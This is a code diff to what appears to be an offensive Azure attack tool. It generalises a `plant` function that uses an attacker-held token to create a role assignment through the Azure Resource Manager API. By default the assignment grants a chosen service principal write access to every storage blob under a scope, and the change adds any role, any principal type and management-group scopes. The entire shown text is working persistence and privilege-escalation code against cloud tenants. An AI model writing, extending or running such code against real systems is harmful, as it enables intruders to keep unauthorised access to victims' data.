@@ -25,18 +25,25 @@ class PlantedGrant:
     role_definition: str
 
 
-async def plant(attacker: Attacker, token: str, scope: str, principal: str) -> PlantedGrant:
-    """Grant the principal write access to every blob below the scope."""
-    subscription = "/".join(scope.split("/")[:3])
-    definition = (
-        f"{subscription}/providers/Microsoft.Authorization/roleDefinitions/{BLOB_DATA_CONTRIBUTOR}"
-    )
+async def plant(
+    attacker: Attacker,
+    token: str,
+    scope: str,
+    principal: str,
+    *,
+    role: str = BLOB_DATA_CONTRIBUTOR,
+    principal_type: str = "ServicePrincipal",
+) -> PlantedGrant:
+    """Grant the principal a role, by its GUID; by default write access to every blob below the scope."""
+    above = scope.lower().startswith("/providers/")  # a management group
+    subscription = "" if above else "/".join(scope.split("/")[:3])
+    definition = f"{subscription}/providers/Microsoft.Authorization/roleDefinitions/{role}"
     assignment = f"{scope}/providers/Microsoft.Authorization/roleAssignments/{uuid.uuid4()}"
     url = f"{attacker.endpoints['arm']}{assignment}?api-version=2022-04-01"
     properties = {
         "roleDefinitionId": definition,
         "principalId": principal,
-        "principalType": "ServicePrincipal",
+        "principalType": principal_type,
     }
     answer = await attacker.call("PUT", url, token, {"properties": properties})
     if not answer.is_success:
